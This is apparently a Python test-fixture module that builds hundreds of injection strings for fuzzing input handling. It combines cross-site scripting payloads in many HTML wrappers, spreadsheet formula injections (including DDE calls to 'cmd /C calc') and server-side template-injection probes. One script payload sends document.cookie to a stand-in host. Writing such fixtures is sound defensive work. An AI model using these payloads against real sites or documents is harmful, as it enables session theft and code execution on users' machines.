# SPDX-License-Identifier: Apache-2.0
"""Names that would act: as markup, as a script, as a formula, as a blank of a template.

>>> names = hostile_names(500)
>>> len(set(names)), max(map(len, names)) <= 200
(500, True)
"""

from __future__ import annotations

from itertools import islice, product
from typing import Final

_ACTS: Final = (
    "alert(1)", "fetch('http://example.com/'+document.cookie)", "location='http://example.com'",
    "window.acted=1", "top.acted=1",
)  # fmt: skip
_MARKUP: Final = (
    "<script>{}</script>", "</script><script>{}</script>", "</title><script>{}</script>",
    "</style><script>{}</script>", "</svg><script>{}</script>", "<svg onload={}>",
    "</symbol><script>{}</script>", "</main></body></html><script>{}</script>",
    "--><script>{}</script>", "<img src=x onerror={}>", '"><img src=x onerror={}>',
    "'><img src=x onerror={}>", "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<a href=javascript:{}>x</a>",
    "<details open ontoggle={}>", "<body onload={}>", "<input autofocus onfocus={}>",
    '" onmouseover="{}', "' onmouseover='{}", "` onmouseover=`{}",
    "<svg><animate onbegin={} attributeName=x></svg>", "<math><mtext><script>{}</script></math>",
    "<object data=javascript:{}></object>", "<video><source onerror={}></video>",
    "<SCRIPT>{}</SCRIPT>", "<scr<script>ipt>{}</scr</script>ipt>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "<template><script>{}</script></template>", "<!--<script>{}</script>-->",
    "<form action=http://example.com><button formaction=javascript:{}>x</button>",
    "<base href=http://example.com/><script>{}</script>", "<style onload={}></style>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet onerror={}>",
    '<use href="data:image/svg+xml,<svg onload={}>"/>',
    "<textarea></textarea><script>{}</script>",
)  # fmt: skip
_FORMULAS: Final = (
    "=1+{n}", "+1+{n}", "-1-{n}", "@SUM({n})", "\uff1d1+{n}", "\uff0b{n}", "\uff20SUM({n})",
    '=HYPERLINK("http://example.com/{n}")', "=cmd|' /C calc'!A{n}", "x;=1+{n}", "x,=1+{n}",
    "x|=1+{n}", '=WEBSERVICE("http://example.com/{n}")', "=IMPORTXML({n})", "'=1+{n}", '"=1+{n}',
    '=DDE("cmd";"/C calc";"{n}")', "==1+{n}", " =1+{n}", "%=1+{n}",
)  # fmt: skip
_BLANKS: Final = (
    "{{{{ {n} * 7 }}}}", "{{% for x in range({n}) %}}x{{% endfor %}}", "{{# {n} #}}",
    "{{{n}.__class__}}", "{{place{n}}}", "%(place{n})s %s %d", "${{{n}*7}}",
    "$x^{n}$ and $\\frac{{1}}{{2}}$", "<%= {n} %>", "#{{{n}}}",
)  # fmt: skip


def hostile_names(count: int) -> list[str]:
    """So many different names, of every kind in turn."""
    markup = [shape.format(act) for act, shape in product(_ACTS, _MARKUP)]
    formulas = [shape.format(n=n) for n, shape in product(range(1, 40), _FORMULAS)]
    blanks = [shape.format(n=n) for n, shape in product(range(1, 40), _BLANKS)]
    mixed = (name for three in zip(markup, formulas, blanks, strict=False) for name in three)
    names = dict.fromkeys(" ".join(name.split()) for name in mixed)
    return list(islice(names, count))
